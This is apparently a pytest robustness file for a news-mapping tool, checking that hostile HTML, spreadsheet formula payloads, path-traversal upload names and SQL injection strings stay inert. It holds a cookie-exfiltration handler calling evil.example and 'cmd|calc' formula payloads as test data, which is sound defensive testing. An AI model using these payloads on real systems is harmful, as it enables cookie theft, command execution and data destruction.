"""Hostile and broken input, injection, geocoder faults and damaged databases.

Users feed claimmap text scraped from propaganda sites and Telegram reposts: every input here
gets a correct result or a clear per-file ``IngestError`` naming the file, a batch goes on past
the bad ones, nothing runs the article's code, and a damaged database is refused by name.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import random
import re
import shutil
import socket
import sqlite3
import struct
import subprocess
import sys
import textwrap
import time
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from nominatim_server import FakeClock, NominatimStandIn, serve

from claimmap.errors import DatabaseCorruptError, IngestError, SchemaVersionError
from claimmap.inputs.files import read_path
from claimmap.pipeline import Pipeline
from claimmap.places.geocode import NominatimTier
from claimmap.places.resolve import Resolver
from claimmap.records import Article
from claimmap.store import sqlite as sqlite_store
from claimmap.store.base import open_store
from claimmap.store.sqlite import MIGRATIONS, SCHEMA_VERSION
from claimmap.views.export import events_csv, events_geojson, mentions_csv, safe_cell

ROOT = Path(__file__).resolve().parent.parent
SEED = sorted((ROOT / "seeds").glob("*.txt"))[0]
#: the modules that build SQL: SQLite's and PostgreSQL's stores
STORAGE = (ROOT / "claimmap" / "store" / "sqlite.py", ROOT / "claimmap" / "store" / "postgres.py")
#: Per file: a guard against a hang or a quadratic blow-up (a one-line page with 50,000 names
#: took over ten minutes before its neighbourhoods were bounded), not a speed target; speed is
#: measured by benchmarks/bench_robustness.py. Measured now: the 10 MB article 42-66 s on this
#: 2-core machine depending on load, 100,000 place-like words ~18 s.
MAX_SECONDS = 180.0
#: Peak resident memory of the whole batch. Measured ~700 MB in the first round and 1.94 GB
#: after the second (case forms, the areas tier and the richer claims; the 10 MB article is
#: most of it): a bound against a blow-up, not a target. Memory is issue 15's to bring down.
MAX_RSS_MB = 2560

SENTENCE = "Russian troops shelled Kondratovka overnight, a military source said."
UKRAINIAN = "Російські війська обстріляли Кондратівку, повідомляє джерело в Сумах."
NAMES = ("Kondratovka", "Sumy", "Yunakivka", "Myropillia", "Alexandria", "Shostka", "Khotin")


def png() -> bytes:
    """A real 8x8 RGB PNG image."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        return struct.pack(">I", len(data)) + kind + data + crc

    rows = b"".join(b"\x00" + bytes((200, 30, 30)) * 8 for _ in range(8))
    header = struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def place_words(count: int) -> str:
    """``count`` capitalised words, half of them gazetteer names, on one line."""
    rng = random.Random(7)
    words = [
        rng.choice(NAMES) if rng.random() < 0.5 else "Q" + "".join(rng.choices("aeikrtvno", k=7))
        for _ in range(count)
    ]
    return " ".join(words)


def ten_megabytes() -> bytes:
    seed = SEED.read_text("utf-8") + "\n\n"
    return (seed * (10 * 1024 * 1024 // len(seed.encode()))).encode()


def deep_html(levels: int, *, closed: bool) -> bytes:
    inner = f"<p>{SENTENCE} {levels} {'closed' if closed else 'open'} levels.</p>"
    closing = "</div>" * levels if closed else ""
    return f"<html><body>{'<div>' * levels}{inner}{closing}</body></html>".encode()


HOSTILE_HTML = (
    b"<html><head><title>Report</title><script>alert('head')</script></head>"
    b"<body onload=\"fetch('https://evil.example/'+document.cookie)\">"
    b'<p onclick="alert(1)">Russian troops shelled <b onmouseover="x()">Kondratovka</b>.</p>'
    b"<script>document.write('Yunakivka')</script>"
    b'<iframe src="javascript:alert(2)">Myropillia</iframe>'
    b'<img src=x onerror="alert(3)"><style>p { color: red }</style>'
    b"<noscript>Shostka</noscript></body></html>"
)

#: name -> (bytes, expected): a regex the IngestError must match, or the surfaces that must be
#: found (in order) in the text that is read.
CASES: dict[str, tuple[Callable[[], bytes], str | tuple[str, ...]]] = {
    "empty.txt": (lambda: b"", "the file is empty"),
    "whitespace.txt": (lambda: " \n\t  \r\n\u3000\u00a0".encode(), "only whitespace"),
    "image.txt": (png, r"binary file \(PNG image\)"),
    "nul.txt": (lambda: SENTENCE.encode().replace(b" ", b"\x00"), "NUL bytes"),
    "invalid_utf8.txt": (lambda: SENTENCE.encode() + b" \xff\xfe\xc3\x28", ("Kondratovka",)),
    "broken_utf8_cyrillic.txt": (
        lambda: UKRAINIAN.encode()[:40] + b"\xff" + UKRAINIAN.encode()[40:],
        "not UTF-8",
    ),
    "utf16_bom.txt": (lambda: f"{SENTENCE} In UTF-16.".encode("utf-16"), ("Kondratovka",)),
    "windows1251.txt": (lambda: (UKRAINIAN + "\n").encode("cp1251"), ()),
    "one_line.txt": (
        lambda: (" ".join(SENTENCE for _ in range(15_000))).encode(),
        ("Kondratovka",) * 15_000,
    ),
    "nested.html": (lambda: deep_html(10_000, closed=True), "nested more than 256 elements deep"),
    "nested_unclosed.html": (
        lambda: deep_html(10_000, closed=False),
        "nested more than 256 elements deep",
    ),
    "hostile.html": (lambda: HOSTILE_HTML, ("Kondratovka",)),
    "invisible.txt": (
        lambda: (
            "\ufeffRussian troops shelled Kon\u200bdratovka, Yuna\u202ekivka\u202c and "
            "\u2066Myro\u200dpillia\u2069 near Su\u200emy."
        ).encode(),
        ("Kondratovka", "Yunakivka", "Myropillia", "Sumy"),
    ),
    "combining.txt": (
        lambda: "Russian troops shelled Kondrato\u0301vka and Yuna\u0301kivka overnight.".encode(),
        ("Kondrato\u0301vka", "Yuna\u0301kivka"),
    ),
}
BIG_CASES: dict[str, Callable[[], bytes]] = {
    "ten_megabytes.txt": ten_megabytes,
    "place_words.txt": lambda: place_words(100_000).encode(),
}


@pytest.fixture(scope="module")
def pipeline(resolver: Resolver) -> Pipeline:
    return Pipeline(store=open_store(":memory:"), resolver=resolver)


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_input_gives_a_result_or_an_error_naming_the_file(
    name: str, tmp_path: Path, pipeline: Pipeline
) -> None:
    build, expected = CASES[name]
    path = tmp_path / name
    path.write_bytes(build())
    if isinstance(expected, str):
        with pytest.raises(IngestError, match=expected) as info:
            read_path(path)
        assert str(path) in str(info.value)
        return
    article = read_path(path)
    analysis = pipeline.analyse(article)
    text = article.text
    for m in analysis.mentions:
        assert text[m.start : m.end] == m.surface
    for c in analysis.claims:
        assert text[c.sentence_start : c.sentence_end] == c.sentence
    assert [m.surface for m in analysis.mentions if m.surface in expected] == list(expected)
    assert all(r.place is not None for r in analysis.resolutions if r.mention.surface in expected)


def test_html_code_and_handlers_never_become_text(tmp_path: Path) -> None:
    path = tmp_path / "hostile.html"
    path.write_bytes(HOSTILE_HTML)
    article = read_path(path)
    assert article.text == "Russian troops shelled Kondratovka."
    assert article.title == "Report"


def test_windows_1251_and_utf16_decode_to_the_text_written(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_bytes((UKRAINIAN + "\n").encode("cp1251"))
    (tmp_path / "b.txt").write_bytes(SENTENCE.encode("utf-16"))
    assert read_path(tmp_path / "a.txt").text == UKRAINIAN + "\n"
    assert read_path(tmp_path / "a.txt").language == "uk"
    assert read_path(tmp_path / "b.txt").text == SENTENCE


def test_combining_accent_resolves_like_the_plain_name(resolver: Resolver) -> None:
    plain = resolver.resolve_text("Russian troops shelled Kondratovka and Yunakivka.")
    marked = resolver.resolve_text("Russian troops shelled Kondrato\u0301vka and Yuna\u0301kivka.")
    assert [r.place.place_id for r in marked if r.place] == [
        r.place.place_id for r in plain if r.place
    ]
    assert len(marked) == 2


BATCH = textwrap.dedent(
    """
    import json, resource, sys, time
    from claimmap.pipeline import Pipeline
    pipeline = Pipeline.open(db=sys.argv[2], offline=True)
    stamps = []
    summary = pipeline.ingest_paths(
        [sys.argv[1]], progress=lambda done, total, name: stamps.append((name, time.monotonic()))
    )
    seconds = {a[0]: b[1] - a[1] for a, b in zip(stamps, stamps[1:])}
    print(json.dumps({
        "ingested": summary.ingested, "failed": summary.failed, "seconds": seconds,
        "rss_mb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024,
    }))
    """
)


def test_a_batch_of_everything_goes_on_within_time_and_memory(tmp_path: Path) -> None:
    directory = tmp_path / "in"
    directory.mkdir()
    shutil.copy(SEED, directory / SEED.name)
    for name, (build, _) in CASES.items():
        (directory / name).write_bytes(build())
    for name, build in BIG_CASES.items():
        (directory / name).write_bytes(build())
    done = subprocess.run(
        [sys.executable, "-c", BATCH, str(directory), str(tmp_path / "batch.db")],
        capture_output=True,
        text=True,
        timeout=600,
        check=True,
    )
    report = json.loads(done.stdout)
    bad = {name for name, (_, expected) in CASES.items() if isinstance(expected, str)}
    good = {*CASES, *BIG_CASES, SEED.name} - bad
    assert set(report["ingested"]) == good
    assert {name for name, _ in report["failed"]} == bad
    for name, why in report["failed"]:
        assert name in why
    assert max(report["seconds"].values()) < MAX_SECONDS, report["seconds"]
    assert report["rss_mb"] < MAX_RSS_MB
    with open_store(tmp_path / "batch.db") as store:
        assert len(store.articles()) == len(good)
        assert store.events()


# --- injection ------------------------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://evil","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    '"=1+1',
    "'=1+1",
    ' "@SUM(A1)',
    "«=1+1»",
)


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_cells_never_start_a_formula(value: str) -> None:
    cell = safe_cell(value)
    assert cell == "'" + value
    assert cell.endswith(value)  # the text itself is kept


def article_with(text: str, *, title: str) -> Article:
    from claimmap.inputs.files import read_text

    return read_text(text, title=title)


def test_article_text_reaches_csv_and_geojson_verbatim_and_inert(resolver: Resolver) -> None:
    text = (
        "=cmd|' /C calc'!A0 Russian troops shelled Kondratovka <script>alert(1)</script> "
        '<img src=x onerror="alert(2)"> & "quotes".'
    )
    pipeline = Pipeline(store=open_store(":memory:"), resolver=resolver)
    pipeline.ingest_text(text, title="@evil =title")
    events = pipeline.store.events()
    assert events
    sentences = [c.sentence for e in events for c in e.claims]
    assert text in sentences
    geo = events_geojson(events)
    assert json.loads(json.dumps(geo))["features"][0]["properties"]["source_sentences"] == text
    rows = list(csv.DictReader(io.StringIO(events_csv(events))))
    assert rows[0]["source_sentences"] == "'" + text  # shown as text, never run
    mentions = mentions_csv(
        pipeline.store.resolutions(), articles={a.article_id: a for a in pipeline.store.articles()}
    )
    for row in [*rows, *csv.DictReader(io.StringIO(mentions))]:
        for cell in row.values():
            assert inert(cell), cell


def inert(cell: str) -> bool:
    """A spreadsheet shows this cell as text: escaped, a plain number, or no formula start."""
    if cell.startswith("'") or re.fullmatch(r"[+-]?\d+(?:\.\d*)?(?:[eE][+-]?\d+)?", cell):
        return True
    return not cell.lstrip(" \u00a0\"'“”‘’«»").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_inert_check_itself() -> None:
    assert not inert("=1+1")
    assert not inert(' "@SUM(A1)')
    assert inert("'=1+1")
    assert inert("-1.5")


EVIL_NAMES = (
    "../../etc/passwd",
    "/abs/path.txt",
    "..\\..\\win.txt",
    "a\x00b.txt",
    "../" * 20 + "tmp/claimmap-escape.txt",
    "C:\\Windows\\evil.html",
    "",
)


def test_upload_names_are_labels_and_nothing_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, resolver: Resolver
) -> None:
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    outside = sorted(p for p in tmp_path.parent.rglob("*") if tmp_path not in p.parents)
    pipeline = Pipeline(store=open_store(work / "db.sqlite"), resolver=resolver)
    uploads = [(name, f"{SENTENCE} Upload {i}.".encode()) for i, name in enumerate(EVIL_NAMES)]
    summary = pipeline.ingest_uploads(uploads)
    assert list(summary.ingested) == list(EVIL_NAMES)
    assert {a.path for a in pipeline.store.articles()} == set(EVIL_NAMES)
    pipeline.store.close()
    # the database and its reserve against a full disk (issue 14), nothing else
    assert sorted(p.name for p in work.iterdir()) == ["db.sqlite", "db.sqlite-reserve"]
    assert sorted(p for p in tmp_path.parent.rglob("*") if tmp_path not in p.parents) == outside
    assert not Path("/tmp/claimmap-escape.txt").exists()


def sql_calls(module: Path) -> list[ast.Call]:
    tree = ast.parse(module.read_text("utf-8"))
    return [
        node
        for node in ast.walk(tree)
        if isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr in ("execute", "executemany", "executescript", "_query")
        and node.args
    ]


#: Interpolations the stores may put into SQL: column lists, placeholders and trusted numbers.
SAFE_PARTS = {
    "int(self.timeout * 1000)",
    "number",
    "_where('m', article_id)",
    "_where('m', article_id, below)",  # below: a parameter; the text is fixed
    "_where('c', article_id)",
    "', '.join(('c.' + c for c in CLAIM_COLUMNS))",
    "', '.join(('c.' + c for c in r.CLAIM_COLUMNS))",
    "', '.join('?' * len(chunk))",  # placeholders, one per value
    "', '.join('?' * len(types))",
}
#: Names whose values are SQL made here from constants: module constants (``_EVENT_SELECT``,
#: ``MIGRATIONS[n]``), the clauses the spatial helpers return (``where``, ``sql``) and
#: placeholder lists (``marks``).
SAFE_NAMES = re.compile(r"^(?:_?[A-Z][A-Z0-9_]*|sql|statement|where|box|near|marks)$")


def unsafe_sql(node: ast.expr) -> list[str]:
    """The parts of an SQL argument that could carry a value into the statement text."""
    if isinstance(node, ast.Constant):
        return []
    if isinstance(node, ast.Name):
        return [] if SAFE_NAMES.match(node.id) else [node.id]
    if isinstance(node, ast.Subscript) and isinstance(node.value, ast.Name):
        return [] if SAFE_NAMES.match(node.value.id) else [ast.unparse(node)]  # _COPY_OUT[t]
    if isinstance(node, ast.JoinedStr):
        return [
            part
            for v in node.values
            if isinstance(v, ast.FormattedValue)
            for part in (
                []
                if ast.unparse(v.value) in SAFE_PARTS
                else unsafe_sql(v.value)
                if isinstance(v.value, ast.Name | ast.Subscript)
                else [ast.unparse(v.value)]
            )
        ]
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        return unsafe_sql(node.left) + unsafe_sql(node.right)
    return [ast.unparse(node)]  # "%" formatting, .format(), calls: never


@pytest.mark.parametrize("module", STORAGE, ids=lambda p: p.name)
def test_sql_is_built_only_from_constants_and_parameters(module: Path) -> None:
    calls = sql_calls(module)
    assert len(calls) > 20  # the walk does see the module's queries
    problems = {ast.unparse(c.args[0])[:80]: unsafe_sql(c.args[0]) for c in calls}
    assert {k: v for k, v in problems.items() if v} == {}


def test_the_sql_check_catches_values_in_sql() -> None:
    for source in ("f'SELECT * FROM a WHERE t = {title}'", "'SELECT ' + title", "'%s' % title",
                   "f'SELECT * FROM {table}'", "QUERIES[title] + title"):  # fmt: skip
        assert unsafe_sql(ast.parse(source, mode="eval").body)


def test_sql_text_in_titles_and_text_is_stored_as_data(tmp_path: Path, resolver: Resolver) -> None:
    db = tmp_path / "db.sqlite"
    pipeline = Pipeline(store=open_store(db), resolver=resolver)
    evil = "x'); DROP TABLE articles;--"
    summary = pipeline.ingest_text(f'{SENTENCE} {evil} "; DELETE FROM claims; --', title=evil)
    assert summary.ingested
    pipeline.ingest_uploads([(evil + ".txt", f"{SENTENCE} Robert'); DROP TABLE x;--".encode())])
    pipeline.store.close()
    with open_store(db) as store:
        titles = [a.title for a in store.articles()]
        assert evil in titles
        assert len(titles) == 2
        assert store.claims()
        assert [a.path for a in store.articles()] == ["", evil + ".txt"]


# --- geocoder faults, through the pipeline -------------------------------------------------

UNKNOWN = "Russian troops shelled the village of Hlybnivka and the village of Zzyzxivka near Sumy."


def geocoded(
    tmp_path: Path, domain: str, clock: FakeClock, *, timeout: float = 1.0
) -> tuple[Pipeline, NominatimTier]:
    store = open_store(tmp_path / "geo.db")
    tier = NominatimTier(
        domain=domain,
        scheme="http",
        timeout=timeout,
        min_delay_seconds=0.0,
        max_retries=2,
        max_retry_after=30.0,
        cache=store,
        clock=clock,
        sleep=clock.sleep,
    )
    return Pipeline(store=store, resolver=Resolver.offline(fallback=tier)), tier


def cache_rows(pipeline: Pipeline) -> int:
    with sqlite3.connect(pipeline.store.path) as conn:  # type: ignore[attr-defined]
        return conn.execute("SELECT count(*) FROM geocoder_cache").fetchone()[0]


def unresolved(pipeline: Pipeline) -> dict[str, str]:
    return {r.mention.surface: r.reason for r in pipeline.store.resolutions() if r.place is None}


FAULTS = {  # mode -> what the reason says
    "500": "geocoder error after 3 tries",
    "garbage": "malformed answer",
    "nocoords": "without usable coordinates",
    "object": "Database connection failed",
    "429": "rate-limited",
}


@pytest.mark.parametrize("mode", sorted(FAULTS))
def test_geocoder_faults_leave_mentions_unresolved_with_the_reason(
    tmp_path: Path, mode: str
) -> None:
    clock = FakeClock()
    with serve(NominatimStandIn(mode=[mode] * 20, retry_after="3600")) as state:
        pipeline, _ = geocoded(tmp_path, state.domain, clock)
        summary = pipeline.ingest_text(UNKNOWN, title="unknown places")
    assert summary.ingested == ("unknown places",)
    reasons = unresolved(pipeline)
    assert set(reasons) == {"Hlybnivka", "Zzyzxivka"}
    assert all(FAULTS[mode] in why or "not retried" in why for why in reasons.values()), reasons
    assert cache_rows(pipeline) == 0  # an error is never cached as an answer
    assert len(state.requests) <= 3  # bounded: retries for the first name, then the circuit
    assert sum(clock.sleeps) <= 2 * 30.0
    assert [e.n_claims for e in pipeline.store.events()]  # the rest of the article is mapped


def test_geocoder_429_backs_off_then_answers_and_caches(tmp_path: Path) -> None:
    clock = FakeClock()
    with serve(NominatimStandIn(mode=["429", "429"], retry_after="5")) as state:
        pipeline, _ = geocoded(tmp_path, state.domain, clock)
        pipeline.ingest_text(UNKNOWN, title="unknown places")
    places = {r.mention.surface: r.place for r in pipeline.store.resolutions()}
    assert places["Hlybnivka"] is not None
    assert places["Hlybnivka"].tier == "geocoder"
    assert clock.sleeps.count(5.0) == 2
    assert cache_rows(pipeline) == 2  # Hlybnivka's answer and Zzyzxivka's empty answer


def test_geocoder_result_far_away_is_flagged_not_trusted(tmp_path: Path) -> None:
    clock = FakeClock()
    with serve(NominatimStandIn(mode=["far"] * 5)) as state:
        pipeline, _ = geocoded(tmp_path, state.domain, clock)
        pipeline.ingest_text(UNKNOWN, title="unknown places")
    far = [r for r in pipeline.store.resolutions() if r.place and r.place.country_code == "RU"]
    assert far
    for r in far:  # kept for the reviewer, but flagged and at half confidence at most
        assert "far_from_article" in r.flags
        assert r.confidence <= 0.75 / 2
        assert "far: check it" in r.reason


def test_geocoder_timeout_fails_fast_for_the_whole_article(tmp_path: Path) -> None:
    clock = FakeClock()
    with serve(NominatimStandIn(mode=["hang"] * 5, hang_seconds=3.0)) as state:
        pipeline, _ = geocoded(tmp_path, state.domain, clock, timeout=0.5)
        summary = pipeline.ingest_text(UNKNOWN, title="unknown places")
    assert summary.ingested
    reasons = unresolved(pipeline)
    assert "unreachable" in reasons["Hlybnivka"]
    assert "not retried" in reasons["Zzyzxivka"]
    assert len(state.requests) == 1
    assert cache_rows(pipeline) == 0


#: Hostile geocoder answers (issue 14), through the whole pipeline: mode -> what the reason says.
HOSTILE = {
    "trickle": "did not answer within 0.5 s",
    "hang": "did not answer within 0.5 s",
    "huge": "over 1,048,576 bytes",
    "bad:51.07,1e308": "impossible lon",
    "bad:NaN,34.99": "impossible lat",
    "badjson": "malformed answer",
    "brazil": "outside UA, RU, BY",
    "html": "HTML, not JSON",
    "redirect:http://localhost:9/search": "redirected to another host",
}


@pytest.mark.parametrize("mode", list(HOSTILE))
def test_hostile_geocoder_answers_leave_the_article_stored_and_the_name_unresolved(
    tmp_path: Path, mode: str
) -> None:
    """Each within 0.5 s per request (the deadline) and 2 s in all; nothing cached."""
    clock = FakeClock()
    with serve(NominatimStandIn(mode=[mode] * 5, hang_seconds=10.0)) as state:
        pipeline, _ = geocoded(tmp_path, state.domain, clock, timeout=0.5)
        started = time.monotonic()
        summary = pipeline.ingest_text(UNKNOWN, title="unknown places")
        took = time.monotonic() - started
    assert summary.ingested == ("unknown places",)
    reasons = unresolved(pipeline)
    assert HOSTILE[mode] in reasons["Hlybnivka"], reasons
    assert cache_rows(pipeline) == 0
    assert took < 2.0 + 1.0  # the offline tiers' own work is the 1 s margin
    assert [e.n_claims for e in pipeline.store.events()]  # the rest of the article is mapped
    geojson = events_geojson(pipeline.store.events())
    for feature in geojson["features"]:
        lon, lat = feature["geometry"]["coordinates"]
        assert -180 <= lon <= 180
        assert -90 <= lat <= 90


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_geocoder_down_gives_the_same_events_as_offline(tmp_path: Path, resolver: Resolver) -> None:
    offline = Pipeline(store=open_store(":memory:"), resolver=resolver)
    offline.ingest_paths([ROOT / "seeds"])
    (tmp_path / "down").mkdir()
    down, _ = geocoded(tmp_path / "down", f"127.0.0.1:{free_port()}", FakeClock())
    summary = down.ingest_paths([ROOT / "seeds"])
    assert len(summary.ingested) == 2
    assert [(e.event_id, e.n_claims) for e in down.store.events()] == [
        (e.event_id, e.n_claims) for e in offline.store.events()
    ]
    assert cache_rows(down) == 0


# --- damaged and old databases --------------------------------------------------------------


@pytest.fixture(scope="module")
def good_db(tmp_path_factory: pytest.TempPathFactory, resolver: Resolver) -> bytes:
    path = tmp_path_factory.mktemp("db") / "good.db"
    with open_store(path) as store:
        Pipeline(store=store, resolver=resolver).ingest_paths([ROOT / "seeds"])
    return path.read_bytes()


def damaged(good: bytes) -> dict[str, bytes]:
    return {
        "truncated_half.db": good[: len(good) // 2],
        "truncated_one_page.db": good[:4096],
        "truncated_header.db": good[:100],
        "truncated_in_header.db": good[:10],
        "not_sqlite.db": b"claimmap would never write this\n" * 100,
        "png.db": png(),
    }


@pytest.mark.parametrize("whole", [True, False], ids=["checked whole", "as a large one"])
def test_damaged_files_are_refused_by_name_and_left_untouched(
    good_db: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, whole: bool
) -> None:
    """Refused when opened, whether the database is small enough to be checked page by page
    or (FULL_CHECK_BYTES at 0) only by its header, its size and its schema."""
    if not whole:
        monkeypatch.setattr(sqlite_store, "FULL_CHECK_BYTES", 0)
    for name, data in damaged(good_db).items():
        path = tmp_path / name
        path.write_bytes(data)
        with pytest.raises(DatabaseCorruptError) as info:
            open_store(path)
        assert str(path) in str(info.value)
        assert path.read_bytes() == data, name  # refused, not "repaired" into an empty store


def run_cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "claimmap", *args],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


@pytest.mark.parametrize("name", ["truncated_half.db", "not_sqlite.db", "truncated_in_header.db"])
def test_cli_says_one_clear_line_about_a_damaged_database(
    name: str, good_db: bytes, tmp_path: Path
) -> None:
    path = tmp_path / name
    data = damaged(good_db)[name]
    path.write_bytes(data)
    for args in (("articles", "--db", str(path)), ("ingest", str(SEED), "--db", str(path), "-q")):
        done = run_cli(*args)
        assert done.returncode == 1
        lines = done.stderr.strip().splitlines()
        assert len(lines) == 1, done.stderr
        assert lines[0].startswith("claimmap: error: ")
        assert str(path) in lines[0]
        assert "Traceback" not in done.stderr
    assert path.read_bytes() == data


def version_1_db(path: Path) -> None:
    with sqlite3.connect(path) as conn:
        conn.executescript(MIGRATIONS[0])
        conn.execute(
            "INSERT INTO articles (article_id, title, text) VALUES (?, ?, ?)",
            ("old1", "An old article", SENTENCE),
        )
        conn.execute("PRAGMA user_version = 1")
    conn.close()


def test_an_old_database_is_migrated_with_its_data(tmp_path: Path) -> None:
    path = tmp_path / "old.db"
    version_1_db(path)
    done = run_cli("articles", "--db", str(path))
    assert done.returncode == 0, done.stderr
    assert "An old article" in done.stdout
    with sqlite3.connect(path) as conn:
        assert conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
        assert conn.execute("SELECT title FROM articles").fetchall() == [("An old article",)]
    conn.close()


def test_a_newer_database_is_refused_by_the_cli(tmp_path: Path) -> None:
    path = tmp_path / "new.db"
    version_1_db(path)
    with sqlite3.connect(path) as conn:
        conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 5}")
    conn.close()
    data = path.read_bytes()
    with pytest.raises(SchemaVersionError, match=re.escape(str(path))):
        open_store(path)
    done = run_cli("articles", "--db", str(path))
    assert done.returncode == 1
    assert done.stderr.count("\n") == 1
    assert "newer claimmap" in done.stderr
    assert path.read_bytes() == data
